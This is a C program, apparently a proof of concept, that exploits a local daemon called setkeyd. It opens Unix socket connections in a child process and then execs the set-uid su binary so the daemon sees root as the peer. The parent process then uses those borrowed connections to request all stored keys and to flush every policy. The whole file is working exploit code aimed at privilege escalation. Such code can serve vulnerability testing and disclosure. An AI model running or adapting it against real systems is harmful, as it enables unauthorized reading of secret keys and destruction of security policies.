/*
 * borrow SOCKET COUNT: what a member of the group can do to borrow the rights of a set-uid program.
 *
 * Two processes share COUNT sockets. One connects them and executes su, which is then root and waits for a password;
 * the other goes on talking over the connections, and asks for keys and for a flush of all policies.
 * Prints `euid EUID, granted N, denied N`: the effective uid of the process that has connected, and the answers.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <signal.h>
#include <time.h>
#include <unistd.h>

static void die(const char *what)
{
    perror(what);
    exit(2);
}

/* The effective uid of a process, from the second number of its line `Uid:`. */
static int effective_uid(pid_t pid)
{
    char path[64], line[256];
    int real, effective = -1;

    snprintf(path, sizeof(path), "/proc/%d/status", (int)pid);
    FILE *file = fopen(path, "r");
    if (!file)
        return -1;
    while (fgets(line, sizeof(line), file))
        if (sscanf(line, "Uid: %d %d", &real, &effective) == 2)
            break;
    fclose(file);
    return effective;
}

/* Whether the call is answered, and not with PermissionDenied. */
static int is_granted(int fd, const char *call)
{
    char answer[1 << 16];
    size_t length = 0;

    if (send(fd, call, strlen(call) + 1, MSG_NOSIGNAL) < 0)
        return 0;
    do {
        ssize_t count = recv(fd, answer + length, sizeof(answer) - 1 - length, 0);
        if (count <= 0)
            return 0;
        length += (size_t)count;
    } while (answer[length - 1] != 0);
    return strstr(answer, "org.setkeyd.PermissionDenied") == NULL;
}

int main(int argc, char **argv)
{
    if (argc != 3)
        die("usage: borrow SOCKET COUNT");
    int count = atoi(argv[2]), granted = 0, input[2];
    int *sockets = calloc((size_t)count, sizeof(int));
    struct sockaddr_un address = { .sun_family = AF_UNIX };

    strncpy(address.sun_path, argv[1], sizeof(address.sun_path) - 1);
    for (int i = 0; i < count; i++)
        if ((sockets[i] = socket(AF_UNIX, SOCK_STREAM, 0)) < 0)
            die("socket");
    /* su must see the end of its input when this process closes it: it inherits nothing but that. */
    if (pipe2(input, O_CLOEXEC) < 0)
        die("pipe2");

    pid_t pid = fork();
    if (pid == 0) {
        for (int i = 0; i < count; i++)
            if (connect(sockets[i], (struct sockaddr *)&address, sizeof(address)) < 0)
                die("connect");
        dup2(input[0], 0);
        execl("/bin/su", "su", "-c", "true", NULL);
        die("su");
    }
    struct timespec pause = { .tv_nsec = 10000000 };
    for (int tries = 0; tries < 1000 && effective_uid(pid) != 0; tries++)
        nanosleep(&pause, NULL);
    int uid = effective_uid(pid);
    for (int i = 0; i < count; i++) {
        granted += is_granted(sockets[i],
            "{\"method\":\"org.setkeyd.Render\",\"parameters\":{\"database\":\"associations\",\"showKeys\":true}}");
        granted += is_granted(sockets[i], "{\"method\":\"org.setkeyd.Flush\",\"parameters\":{\"database\":\"policies\"}}");
    }
    printf("euid %d, granted %d, denied %d\n", uid, granted, 2 * count - granted);
    close(input[1]);
    waitpid(pid, NULL, 0);
    return 0;
}
